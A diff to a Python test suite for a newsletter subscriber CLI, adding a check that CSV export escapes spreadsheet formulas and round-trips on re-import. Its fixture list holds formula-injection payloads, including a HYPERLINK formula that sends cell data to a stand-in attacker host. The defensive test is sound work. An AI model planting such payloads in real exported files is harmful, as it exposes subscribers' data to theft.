@@ -7,6 +7,8 @@ import io
 import subprocess
 import sys
 
+import pytest
+
 from tests.support.webapp import infolettre_env
 
 
@@ -58,8 +60,47 @@ def test_import_export_count_erase(tmp_path):
 def test_a_file_without_email_column_is_a_clear_error(tmp_path):
     env = infolettre_env(tmp_path / "home")
     listing = tmp_path / "wrong.csv"
-    listing.write_text("mail;langue\nann@example.org;fr\n", encoding="utf-8")
+    listing.write_text("adresse;langue\nann@example.org;fr\n", encoding="utf-8")
     result = run(env, "import", str(listing))
     assert result.returncode == 2
-    assert f"{listing}:1: no 'email' column" in result.stderr
+    assert f"{listing}:1: unknown column 'adresse'" in result.stderr
+    assert "rejected, nothing imported" in result.stderr
     assert "Traceback" not in result.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)", "+1+cmd",
+            "-2+3", "'=already quoted", "Plain Name"]
+
+
+@pytest.mark.parametrize("form", [[], ["--spreadsheet", "--separator", ";"]])
+def test_export_neutralises_formulas_and_imports_back_to_the_same_text(tmp_path, form):
+    source = infolettre_env(tmp_path / "source")
+    listing = tmp_path / "list.csv"
+    with listing.open("w", encoding="utf-8", newline="") as out:
+        writer = csv.writer(out)
+        writer.writerow(["email", "name", "language", "consent_date"])
+        for n, name in enumerate(FORMULAS):
+            writer.writerow([f"p{n}@example.org", name, "fr", "2026-01-15 09:30"])
+        writer.writerow(["-dash@example.org", "Dash", "en", ""])
+    assert run(source, "import", str(listing)).returncode == 0
+    exported = tmp_path / "export.csv"
+    assert run(source, "export", "-o", str(exported), *form).returncode == 0
+    text = exported.read_text(encoding="utf-8-sig")
+    separator = ";" if form else ","
+    rows = list(csv.DictReader(io.StringIO(text), delimiter=separator))
+    # In the file, no cell a spreadsheet would run: each begins with a quote.
+    for row in rows:
+        for cell in row.values():
+            assert not cell or cell[0] not in "=+-@\t\r", cell
+    assert rows[0]["consent_at"] == ("2026-01-15 09:30:00" if form else
+                                     "2026-01-15T08:30:00+00:00")
+    assert (exported.read_bytes().startswith(b"\xef\xbb\xbf")) == bool(form)
+
+    target = infolettre_env(tmp_path / "target")
+    result = run(target, "import", str(exported))
+    assert result.returncode == 0, result.stderr
+    assert "6 subscribed, 1 pending" in result.stdout
+    back = list(csv.DictReader(io.StringIO(run(target, "export").stdout)))
+    original = list(csv.DictReader(io.StringIO(run(source, "export").stdout)))
+    keep = ("email", "name", "language", "status", "consent_at")
+    assert [{k: r[k] for k in keep} for r in back] == [{k: r[k] for k in keep} for r in original]
